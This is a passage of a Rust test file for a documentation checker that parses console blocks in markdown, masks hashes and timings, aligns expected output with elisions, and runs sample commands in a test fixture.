    let (blocks, problems) = parse_blocks("docs/x.md", text);
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert!(
        problems[0].starts_with("docs/x.md:3: ```console block without a `<!-- fixture: NAME -->`"),
        "{}",
        problems[0]
    );
    assert_eq!(blocks.len(), 1);
    assert_eq!(blocks[0].location(), "docs/x.md:8");
    assert_eq!(blocks[0].fixture, "repo");
    assert_eq!(
        blocks[0].steps,
        [
            Step { command: "mmops x".into(), exit: 2, expected: strings(&["err"]) },
            Step { command: "mmops y".into(), exit: 0, expected: vec![] },
        ]
    );
    assert_eq!(render_steps(&blocks[0].steps), strings(&["$ mmops x  # exit 2", "err", "$ mmops y"]));
}

#[test]
fn output_before_a_command_and_exit_zero_annotations_are_refused() {
    let (_, problems) =
        parse_blocks("README.md", "<!-- fixture: repo -->\n```console\nstray\n$ a  # exit 0\n```\n");
    assert_eq!(problems, ["README.md:3: output before the first `$ ` command line of the block"]);
    let (_, problems) = parse_blocks("README.md", "<!-- fixture: repo -->\n```console\n$ a  # exit 0\n```\n");
    assert_eq!(problems[0], "README.md:3: `# exit 0`: write a non-zero exit code, or leave it out for 0");
    let (blocks, problems) = parse_blocks("docs/a.md", "- item\n  ```console\n  $ mmops x\n  ```\n");
    assert!(blocks.is_empty());
    assert_eq!(
        problems,
        ["docs/a.md:2: indented ```console block: start it at the line's beginning so it is checked"]
    );
}

#[test]
fn masks_hide_only_digests_durations_and_the_worker_count() {
    let sha = "9e4ee8afa43736499228752c1d7d9c417e35c6eff3abc68ca80dea99525196d6";
    assert_eq!(mask(&format!("sha256:  {sha}")), "sha256:  <sha256>");
    assert_eq!(mask("VERSION   6 B  78b591400c56"), "VERSION   6 B  <hash>");
    assert_eq!(mask("| bundle_dry | OK | 0.01s |"), "| bundle_dry | OK | <secs> |");
    assert_eq!(mask("in 12.34s (steps sum 0.05s)"), "in <secs> (steps sum <secs>)");
    assert_eq!(mask("pre-live pack: 6 steps, 2 at a time"), "pre-live pack: 6 steps, <jobs> at a time");
    // Other numbers and hex-looking words stay as they are.
    for kept in [
        "score 65.580049",
        "timeout 1.5s",
        "age 3h 12m",
        "78b591400c5",
        "x78b591400c56",
        "1.0 MiB  11.0 days",
    ] {
        assert_eq!(mask(kept), kept);
    }
    // Reproducible fixtures keep their digests, so a wrong hash in the docs fails.
    assert_eq!(mask_with(&format!("sha256:  {sha}"), false), format!("sha256:  {sha}"));
    assert_eq!(mask_with("| bundle_dry | OK | 0.01s |", false), "| bundle_dry | OK | <secs> |");
}

#[test]
fn an_elision_matches_any_number_of_lines_and_nothing_else_is_a_wildcard() {
    let expected = strings(&["a", ELISION, "z"]);
    assert_eq!(align(&expected, &strings(&["a", "z"])).0, 0);
    assert_eq!(align(&expected, &strings(&["a", "b", "c", "z"])).0, 0);
    assert_ne!(align(&expected, &strings(&["a", "b"])).0, 0);
    assert_ne!(align(&expected, &strings(&["b", "z"])).0, 0);
    assert_ne!(align(&strings(&["a", "b"]), &strings(&["a", "b", "c"])).0, 0);
    assert_ne!(align(&strings(&["…x"]), &strings(&["…y"])).0, 0);
}

#[test]
fn bless_keeps_elisions_and_shows_changed_lines() {
    // Matches: the docs' lines are kept as written, digests included.
    let expected = strings(&["a 0.01s", ELISION, "z"]);
    assert_eq!(blessed(&expected, &strings(&["a 0.05s", "b", "z"])), expected);
    // Lines equal but for masked parts keep the docs' text even when another line changed.
    assert_eq!(
        blessed(&expected, &strings(&["a 0.09s", "b", "z", "new"])),
        strings(&["a 0.01s", ELISION, "z", "new"])
    );
    // The head changed and a line was added at the end: shown; the elision still hides b, c.
    assert_eq!(
        blessed(&expected, &strings(&["a 0.02s changed", "b", "c", "z", "new"])),
        strings(&["a 0.02s changed", ELISION, "z", "new"])
    );
    // An elision that would hide nothing is dropped.
    assert_eq!(blessed(&expected, &strings(&["a", "z"])), strings(&["a", "z"]));
    // Without elisions the output is written as printed.
    assert_eq!(blessed(&strings(&["old"]), &strings(&["new", "more"])), strings(&["new", "more"]));
}

#[test]
fn a_mismatch_diff_marks_missing_extra_and_changed_lines() {
    let text = diff(&strings(&["a", ELISION, "m", "z"]), &strings(&["a", "b", "c", "z", "new"]));
    assert_eq!(text, "    a\n    … (2 lines)\n  - m\n    z\n  + new\n");
}

#[test]
fn commands_share_one_pipe_and_the_fixture_folder() {
    let fixture = Fixture::new("2026-01-01T00:00:00Z");
    let vars = fixture.vars.clone();
    let run = run_command(fixture.env.root(), &vars, "echo out; echo err >&2; echo again; exit 3").unwrap();
    assert_eq!(run.code, 3);
    assert_eq!(run.lines, strings(&["out", "err", "again"]));
    let run = run_command(fixture.env.root(), &vars, "touch made && command -v mmops && echo $CI_FAKE_UTC")
        .unwrap();
    assert_eq!(run.code, 0);
    assert_eq!(run.lines, [env!("CARGO_BIN_EXE_mmops").to_string(), "2026-01-01T00:00:00Z".to_string()]);
    assert!(fixture.env.exists("made"));
}
